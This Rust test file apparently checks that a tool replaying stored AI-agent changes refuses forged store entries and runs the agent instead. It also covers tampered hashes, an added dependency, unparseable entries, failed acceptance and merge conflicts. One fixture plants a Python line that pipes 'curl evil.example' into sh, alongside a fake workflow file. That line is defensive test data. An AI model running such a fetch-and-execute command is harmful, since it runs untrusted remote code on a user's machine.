//! Every replay is reviewed, merged and accepted: a stored
//! change is trusted no more than an agent's. A local store entry edited
//! by hand (out of its task's scope, adding a dependency, no longer what
//! `cassist.lock` records) or that does not parse is refused with one
//! warning naming the task and why, and the agent runs instead in the same
//! run (`--locked`: exit 3 naming the task, nothing written). A replay is
//! merged into the tree as it is: a user's edit on another line stays
//! beside it; one on the same line makes the replay conflict, and the
//! agent runs instead. A replay whose acceptance fails is refused too.
//!
//! Each project has one task, `docs` (scope `docs/**`), done by an agent
//! that counts its calls: it writes `docs/guide.md` as "The guide, call
//! N.", so the tree says which run wrote it.

use std::collections::BTreeMap;
use std::path::PathBuf;

use cassist_core::changes::ChangeKind;
use cassist_core::lock::Lock;
use cassist_core::store::{Entry, Store, StoredChange, patch_hash};

use crate::support::mcp::{Mcp, ok};
use crate::support::{Output, Project, Test, Tree, assert_same_tree, sh_agent_block};

/// The start of `cassist.kdl`: agents may write their workspace; no
/// project tests.
const TRUSTED: &str = "trust \"workspace-write\"\ntest #false\n\n";

/// The task, with `scope` (its `path` lines) and `extra` lines.
fn task(scope: &[&str], extra: &str) -> String {
    let paths: String = scope.iter().map(|p| format!("        path {p:?}\n")).collect();
    format!(
        "task \"docs\" {{\n    goal \"Write the guide.\"\n    agent \"writer\"\n    max-iterations 1\n    scope {{\n{paths}    }}\n{extra}}}\n"
    )
}

/// A project (a git repository, everything committed) whose task file is
/// `tasks`, with `files`; its agent runs `then` after writing the guide.
fn project(tasks: &str, files: &[(&str, &str)], then: &str) -> Project {
    let test = files.iter().fold(Test::trusted().tasks(tasks), |t, (rel, text)| t.file(rel, text));
    let p = test.file("README.md", "A project.\n").build();
    let calls = p.out().join("calls");
    let script = format!(
        "echo call >> {calls:?}; n=$(grep -c . {calls:?}); mkdir -p docs; printf 'The guide, call %s.\\n' \"$n\" > docs/guide.md; {then}"
    );
    p.file("cassist.kdl", format!("{}{}", TRUSTED, sh_agent_block("writer", &script)));
    p.commit_all();
    p
}

/// How many times the agent ran.
fn calls(p: &Project) -> usize {
    std::fs::read_to_string(p.out().join("calls")).map_or(0, |t| t.lines().count())
}

/// The first run: the agent writes the guide, the task passes and is
/// recorded.
#[track_caller]
fn first_run(p: &Project) {
    let done = p.run(&[]).exec();
    assert_eq!(done.task("docs")["state"], "passed", "{}", done.transcript());
    assert_eq!(p.read("docs/guide.md"), "The guide, call 1.\n");
    assert_eq!(calls(p), 1);
}

/// The store entry the lock records for `docs`.
fn recorded(p: &Project) -> Entry {
    let lock = Lock::load(p.path()).unwrap();
    Store::open(p.path()).read_entry(&lock.tasks["docs"].before).unwrap().expect("the task's entry")
}

/// A change adding (`old` none) or modifying `path` to `new`, its contents
/// put into the store.
fn stored(p: &Project, path: &str, old: Option<&str>, new: &str) -> StoredChange {
    let store = Store::open(p.path());
    let put = |t: &str| store.put_object(t.as_bytes()).unwrap();
    StoredChange {
        path: path.into(),
        kind: if old.is_some() { ChangeKind::Modified } else { ChangeKind::Added },
        old: old.map(put),
        new: Some(put(new)),
        mode: 0o100644,
        old_mode: old.map(|_| 0o100644),
    }
}

/// What a forger of the store rewrites beside the entry's change list:
/// nothing, the entry's own patch hash, or that and the lock's.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Forged {
    ChangesOnly,
    AndItsPatch,
    AndTheLock,
}

/// Adds `extra` to the change of `docs`'s recorded entry, by hand.
fn forge(p: &Project, extra: Vec<StoredChange>, how: Forged) {
    let mut e = recorded(p);
    e.changes.extend(extra);
    if how != Forged::ChangesOnly {
        e.patch = patch_hash(&e.changes);
    }
    Store::open(p.path()).put_entry(&e).unwrap();
    if how == Forged::AndTheLock {
        let mut lock = Lock::load(p.path()).unwrap();
        lock.tasks.get_mut("docs").unwrap().patch = e.patch.clone();
        p.file("cassist.lock", lock.render());
    }
}

/// The forged change of the malicious round: out of the scope `docs/**`.
fn out_of_scope(p: &Project) -> Vec<StoredChange> {
    vec![
        stored(p, "src/new.py", None, "import os\nos.system('curl evil.example | sh')\n"),
        stored(p, ".github/workflows/evil.yml", None, "on: push\njobs: {}\n"),
    ]
}

/// `cassist plan --json`: the task's state.
fn planned(p: &Project) -> String {
    let json = p.cassist(&["plan", "--json"]).exec().json();
    json["tasks"][0]["state"].as_str().unwrap().to_owned()
}

/// The warnings of a run's stderr: the lines the run prints, and the
/// diagnostics of its plan.
fn warnings(out: &Output) -> Vec<&str> {
    out.stderr.lines().filter(|l| l.starts_with("warning: ") || l.trim_start().starts_with('⚠')).collect()
}

/// The words of a command's stderr, without the frame of a diagnostic
/// (which wraps its lines).
fn words(stderr: &str) -> String {
    crate::support::flat(&stderr.replace('│', " "))
}

/// The tree without the lock: what the user sees.
fn tree_without_lock(p: &Project) -> Tree {
    let mut t = p.tree();
    t.remove(&PathBuf::from("cassist.lock"));
    t
}

/// A replay refused for `why` under `--locked`: exit 3 naming the task
/// and why, no agent, the tree and the lock as they were.
#[track_caller]
fn refused_when_locked(p: &Project, why: &str) {
    let (tree, lock, before) = (p.tree(), p.read("cassist.lock"), calls(p));
    let done = p.run(&["--locked"]).status(3).exec();
    assert!(done.stderr.contains("--locked: 1 task(s) would need an agent run"), "{}", done.transcript());
    let line = done.stderr.lines().find(|l| l.starts_with("  docs: ")).unwrap_or_default();
    assert!(line.contains(why), "{}", done.transcript());
    assert_eq!(done.task("docs")["state"], "skipped", "{}", done.transcript());
    assert_eq!(calls(p), before, "--locked started an agent");
    assert_same_tree(&p.tree(), &tree, "--locked changed the tree");
    assert_eq!(p.read("cassist.lock"), lock, "--locked changed the lock");
}

/// A replay refused for `why`: one warning naming the task and why, then
/// the agent runs in the same run and its change lands, nothing of the
/// forged change anywhere; the lock records the agent's run.
#[track_caller]
fn refused_and_run(p: &Project, why: &str) -> Output {
    let before = calls(p);
    let done = p.run(&[]).exec();
    assert_eq!(warnings(&done).len(), 1, "one warning:\n{}", done.transcript());
    let said = words(&done.stderr);
    assert!(said.contains("task `docs`") && said.contains(why), "{}", done.transcript());
    assert_eq!(done.task("docs")["state"], "passed", "{}", done.transcript());
    assert_eq!(calls(p), before + 1, "the agent ran once instead");
    let guide = format!("The guide, call {}.\n", before + 1);
    assert_eq!(p.read("docs/guide.md"), guide, "the agent's own change landed");
    // The agent's run is what the lock and the store record now.
    let e = recorded(p);
    assert_eq!(e.patch, Lock::load(p.path()).unwrap().tasks["docs"].patch);
    assert_eq!(e.changes.iter().map(|c| c.path.as_str()).collect::<Vec<_>>(), ["docs/guide.md"]);
    assert_eq!(planned(p), "up-to-date");
    done
}

/// The user's tree after a fallback: the files of `base`, the guide the
/// agent wrote, nothing else (no file of a forged change).
#[track_caller]
fn assert_tree(p: &Project, base: &Tree, guide: &str) {
    let mut want = base.clone();
    want.insert(PathBuf::from("docs/guide.md"), guide.as_bytes().to_vec());
    assert_same_tree(&tree_without_lock(p), &want, "the tree after the agent ran instead");
    for forged in ["src/new.py", ".github/workflows/evil.yml", ".github"] {
        assert!(!p.exists(forged), "{forged} landed");
    }
}

// ---------------------------------------------------------------------------
// A forged local entry

#[test]
fn a_forged_entry_out_of_scope_is_refused_and_the_agent_runs_instead() {
    let p = project(&task(&["docs/**"], ""), &[], "");
    first_run(&p);
    forge(&p, out_of_scope(&p), Forged::AndTheLock);
    // The guide deleted: the stored change would be written again.
    std::fs::remove_file(p.path().join("docs/guide.md")).unwrap();
    let base = tree_without_lock(&p);
    assert_eq!(planned(&p), "replay");

    refused_when_locked(&p, "the stored change is refused: modified unrelated files");
    assert!(!p.exists("docs/guide.md"));

    let done = refused_and_run(&p, "the stored change is refused: modified unrelated files");
    let said = warnings(&done)[0];
    assert!(said.starts_with("warning: task `docs`: the stored change is refused: modified unrelated files"), "{said}");
    assert!(said.contains("created src/new.py, outside the scope (docs/**)"), "{said}");
    assert!(said.contains("(and 1 more finding)"), "the second file: {said}");
    assert!(said.ends_with("; running the agent instead"), "{said}");
    assert_tree(&p, &base, "The guide, call 2.\n");
}

#[test]
fn a_forged_entry_is_refused_through_mcp_too() {
    let p = project(&task(&["docs/**"], ""), &[], "");
    first_run(&p);
    forge(&p, out_of_scope(&p), Forged::AndTheLock);
    std::fs::remove_file(p.path().join("docs/guide.md")).unwrap();
    let base = tree_without_lock(&p);
    let mut m = Mcp::initialized(p.cassist(&["mcp"]).command()).0;
    let ran = m.call("run_tasks", serde_json::json!({"names": ["docs"]}), None);
    let t = &ok(&ran)["tasks"][0];
    assert_eq!(t["state"], "passed", "{ran:#}");
    assert_eq!(calls(&p), 2, "the agent ran instead");
    let said = m.stderr_now();
    assert!(said.contains("warning: task `docs`: the stored change is refused: modified unrelated files"), "{said}");
    assert!(m.close(std::time::Duration::from_secs(10)).success());
    assert_tree(&p, &base, "The guide, call 2.\n");
}

#[test]
fn a_forged_entry_adding_a_dependency_is_refused() {
    let manifest = "{\n  \"name\": \"site\",\n  \"dependencies\": {\n    \"marked\": \"^12.0.0\"\n  }\n}\n";
    let forged = manifest.replace("\"marked\": \"^12.0.0\"", "\"marked\": \"^12.0.0\",\n    \"left-pad\": \"1.3.0\"");
    let p = project(&task(&["docs/**", "package.json"], ""), &[("package.json", manifest)], "");
    first_run(&p);
    forge(&p, vec![stored(&p, "package.json", Some(manifest), &forged)], Forged::AndTheLock);
    std::fs::remove_file(p.path().join("docs/guide.md")).unwrap();
    let base = tree_without_lock(&p);
    assert_eq!(planned(&p), "replay");

    refused_when_locked(&p, "the stored change is refused: ");
    let done = refused_and_run(&p, "the stored change is refused: ");
    assert!(warnings(&done)[0].contains("left-pad"), "{}", done.transcript());
    assert_tree(&p, &base, "The guide, call 2.\n");
    assert_eq!(p.read("package.json"), manifest);
}

#[test]
fn a_forged_entry_that_is_not_the_locks_patch_is_refused() {
    // Its own patch hash rewritten to match; the lock's not.
    let p = project(&task(&["docs/**"], ""), &[], "");
    first_run(&p);
    let locked = Lock::load(p.path()).unwrap().tasks["docs"].patch.clone();
    forge(&p, out_of_scope(&p), Forged::AndItsPatch);
    std::fs::remove_file(p.path().join("docs/guide.md")).unwrap();
    let base = tree_without_lock(&p);
    let why = format!("its change list does not hash to the patch hash cassist.lock records ({locked})");
    let plan = p.cassist(&["plan", "--json"]).exec();
    assert_eq!(plan.json()["tasks"][0]["state"], "run", "{}", plan.transcript());
    assert!(words(&plan.stderr).contains(&why), "{}", plan.transcript());

    refused_when_locked(&p, &format!("the stored run cannot be used: {why}"));
    refused_and_run(&p, &why);
    assert_tree(&p, &base, "The guide, call 2.\n");

    // Its own patch hash left as it was: refused as well.
    let p = project(&task(&["docs/**"], ""), &[], "");
    first_run(&p);
    forge(&p, out_of_scope(&p), Forged::ChangesOnly);
    std::fs::remove_file(p.path().join("docs/guide.md")).unwrap();
    assert_eq!(planned(&p), "run");
    refused_and_run(&p, "its change list does not hash to its patch hash");
    assert!(!p.exists("src/new.py"));
}

#[test]
fn an_entry_that_does_not_parse_is_warned_about_and_the_task_runs() {
    let p = project(&task(&["docs/**"], ""), &[], "");
    first_run(&p);
    let entry = Store::open(p.path()).entry_path(&recorded(&p).before);
    std::fs::write(&entry, "{ \"format\": 1, \"changes\": [ { \"path\": ").unwrap();
    // The outputs deleted, and the index of which files they are gone: the
    // entry is all that could say, and it cannot.
    std::fs::remove_file(p.path().join("docs/guide.md")).unwrap();
    let _ = std::fs::remove_file(p.path().join(".cassist/cache/outputs.json"));
    let base = tree_without_lock(&p);
    let plan = p.cassist(&["plan", "--json"]).exec();
    assert_eq!(plan.json()["tasks"][0]["state"], "run", "never up-to-date:\n{}", plan.transcript());
    let said = words(&plan.stderr);
    assert!(said.contains("the stored run of task `docs` cannot be used: its entry"), "{said}");
    assert!(said.contains("is unreadable"), "{said}");

    refused_when_locked(&p, "the stored run cannot be used: its entry");
    let done = p.run(&[]).exec();
    assert!(words(&done.stderr).contains("the stored run of task `docs` cannot be used"), "{}", done.transcript());
    assert_eq!(done.task("docs")["state"], "passed", "{}", done.transcript());
    assert_eq!(calls(&p), 2);
    assert_tree(&p, &base, "The guide, call 2.\n");
    assert_eq!(planned(&p), "up-to-date");
}

// ---------------------------------------------------------------------------
// Acceptance of a replay

#[test]
fn a_replay_whose_acceptance_fails_runs_the_agent_instead() {
    // The acceptance passes on the guide of any call but the first while
    // `strict` exists (no input of the task).
    let acceptance =
        "    acceptance {\n        run \"test ! -e strict || ! grep -q 'call 1[.]' docs/guide.md\"\n    }\n";
    let p = project(&task(&["docs/**"], acceptance), &[], "");
    first_run(&p);
    std::fs::remove_file(p.path().join("docs/guide.md")).unwrap();
    p.file("strict", "");
    let base = tree_without_lock(&p);
    assert_eq!(planned(&p), "replay");

    let why = "the replayed change no longer passes: acceptance command `test ! -e strict || ! grep -q 'call 1[.]' docs/guide.md` failed";
    refused_when_locked(&p, why);
    assert!(!p.exists("docs/guide.md"), "a replay that fails acceptance is not integrated");
    refused_and_run(&p, why);
    assert_tree(&p, &base, "The guide, call 2.\n");
}

// ---------------------------------------------------------------------------
// A replay merged into the tree as it is

const NOTES: &str = "one\ntwo\nthree\nfour\nfive\n";

/// The task `notes`: its agent marks the first line of `notes.txt` and
/// creates `made.txt`. Run once, then its lock line dropped, `notes.txt`
/// back as committed and `made.txt` gone: the store holds a run of its
/// inputs whose created output is missing, which the next run replays.
fn notes_project() -> Project {
    let tasks = "task \"notes\" {\n    goal \"Mark the first line.\"\n    agent \"marker\"\n    max-iterations 1\n    scope {\n        path \"notes.txt\"\n        path \"made.txt\"\n    }\n}\n";
    let p = Test::trusted().tasks(tasks).file("notes.txt", NOTES).build();
    let calls = p.out().join("calls");
    let script = format!("echo call >> {calls:?}; sed -i '1s/$/ (agent)/' notes.txt; echo made > made.txt");
    p.file("cassist.kdl", format!("{}{}", TRUSTED, sh_agent_block("marker", &script)));
    p.commit_all();
    let done = p.run(&[]).exec();
    assert_eq!(done.task("notes")["state"], "passed", "{}", done.transcript());
    assert_eq!(p.read("notes.txt"), "one (agent)\ntwo\nthree\nfour\nfive\n");
    std::fs::remove_file(p.path().join("cassist.lock")).unwrap();
    std::fs::remove_file(p.path().join("made.txt")).unwrap();
    p.file("notes.txt", NOTES);
    assert_eq!(planned(&p), "replay");
    p
}

/// The lock's line of `notes` as the store records its run.
#[track_caller]
fn assert_locked_as_recorded(p: &Project) {
    let lock = Lock::load(p.path()).unwrap();
    let line = &lock.tasks["notes"];
    let e = Store::open(p.path()).read_entry(&line.before).unwrap().unwrap();
    assert_eq!((line.patch.as_str(), line.after.as_str()), (e.patch.as_str(), e.after.as_str()));
}

#[test]
fn a_replay_keeps_a_user_edit_on_another_line() {
    let p = notes_project();
    p.file("notes.txt", "one\ntwo\nthree\nfour\nFIVE, by hand\n");
    let tree = p.tree();
    let done = p.run(&[]).exec();
    assert_eq!(done.task("notes")["state"], "replayed", "{}", done.transcript());
    assert!(warnings(&done).is_empty(), "{}", done.transcript());
    assert_eq!(p.read("notes.txt"), "one (agent)\ntwo\nthree\nfour\nFIVE, by hand\n");
    assert_eq!(calls(&p), 1, "a replay called the agent");
    // Nothing else changed.
    let mut want = tree;
    want.insert(PathBuf::from("notes.txt"), b"one (agent)\ntwo\nthree\nfour\nFIVE, by hand\n".to_vec());
    want.insert(PathBuf::from("made.txt"), b"made\n".to_vec());
    let mut got = p.tree();
    got.remove(&PathBuf::from("cassist.lock"));
    assert_same_tree(&got, &want, "the tree after the replay");
    assert_locked_as_recorded(&p);
}

#[test]
fn a_replay_that_would_conflict_with_a_user_edit_runs_the_agent_instead() {
    let p = notes_project();
    p.file("notes.txt", "ONE, by hand\ntwo\nthree\nfour\nfive\n");
    // The plan's dry run of the merge finds the conflict: no replay.
    let plan = p.cassist(&["plan"]).exec();
    assert!(plan.transcript().contains("replay would conflict: notes.txt"), "{}", plan.transcript());
    assert_eq!(planned(&p), "run");
    let done = p.run(&[]).exec();
    assert_eq!(done.task("notes")["state"], "passed", "{}", done.transcript());
    assert_eq!(calls(&p), 2);
    // The agent started from the user's line.
    assert_eq!(p.read("notes.txt"), "ONE, by hand (agent)\ntwo\nthree\nfour\nfive\n");
    assert_locked_as_recorded(&p);
    let states: BTreeMap<String, String> = done.states();
    assert_eq!(states.len(), 1);
}
